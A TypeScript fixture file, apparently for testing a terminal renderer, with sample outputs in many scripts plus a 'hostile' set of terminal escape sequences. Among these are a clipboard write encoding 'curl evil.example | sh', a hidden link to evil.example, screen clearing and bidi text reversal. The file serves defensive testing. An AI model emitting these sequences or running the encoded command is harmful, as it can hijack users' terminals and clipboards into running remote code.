import { type Command, lines } from './command.ts'
import { paint } from './paint.ts'

const { bold, cyan, green, yellow } = paint

/** Output in scripts whose signs are two cells wide, joined from several, combined with others, or written from the right. */
export const languages: Command = {
  text: 'npm run build:languages',
  weight: 2,
  output: lines(
    `${cyan('翻訳')} 日本語のメッセージを読み込んでいます… ${green('完了')}`,
    '｜名前　｜状態　｜時間　｜',
    '｜検索　｜成功　｜１２秒｜',
    `${yellow('경고')}: 번역되지 않은 문장이 3개 있습니다`,
    'تم بناء الصفحات العربية: ٤١٢ صفحة',
    'הדפים בעברית נבנו בהצלחה (12 דפים) in 3.1 s',
    'हिन्दी अनुवाद पूरा हुआ · คำแปลภาษาไทยเสร็จแล้ว',
    '👩‍👩‍👧‍👦 👍🏿 🏳️‍🌈 🇯🇵🇧🇷🇳🇴 ❤️ 1️⃣ 🧑🏽‍🚀 all the emoji there are',
    'Z̵̡͎̒a̴̛͕͗l̷̰̈g̶̙̽o̴̡͝ cafe\u0301 caf\u00e9 é́́ ﬁ ﾊﾝｶｸ',
    `\t${bold('列一')}\t二\t三三三三三三三三\t四`,
    `${'長い行'.repeat(300)}終わり`,
    '\u200b\u00ad\ufeffinvisible\u2060 signs\u3164',
  ),
}

/** What a log may hold that no terminal must get: it would clear the screen, fill the clipboard, lead elsewhere, turn text round. */
export const hostile: Command = {
  text: './third-party/minify --all',
  weight: 2,
  output: lines(
    'clipboard: \u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007 done',
    'link: \u001b]8;;https://evil.example/\u001b\\minified 12 files\u001b]8;;\u001b\\',
    'screen: \u001b[2J\u001b[3J\u001b[H\u001b[?1049h\u001b[?25l cleared',
    'title: \u001b]0;not yours\u0007\u001b]2;nor this\u001b\\ set',
    'device: \u001bP+q544e\u001b\\\u001bP1$r0m\u001b\\\u001b[c\u001b[6n\u001b[>q asked',
    'eight bits: \u009b31m\u009d0;title\u009c\u0090q\u009c \u0085next',
    'keys: \u001b[?1000h\u001b[?2004h\u001b=\u001b(0lqk\u001b(B \u000e\u000f mouse',
    'direction: \u202eevas\u202c \u2066inner\u2069 \u200f\u061c turned',
    'bytes: \u0000\u0001\u0008\u0008\u0008\u007f\u000b\u000c end',
    'colours: \u001b[38;2;300;-1;5mwrong\u001b[999m\u001b[4:3mcurly\u001b[58:2::255:0:0m \u001b[',
    '\u001b[31mred until somebody ends it, and half an escape \u001b[38;5',
    'progress 10 %\r\u001b[Kprogress 100 %\r\n\u001b[1A\u001b[2Koverwritten',
    '\u001b]1337;File=inline=1:AAAA\u0007\u001b_Gf=100;AAAA\u001b\\ picture',
  ),
}
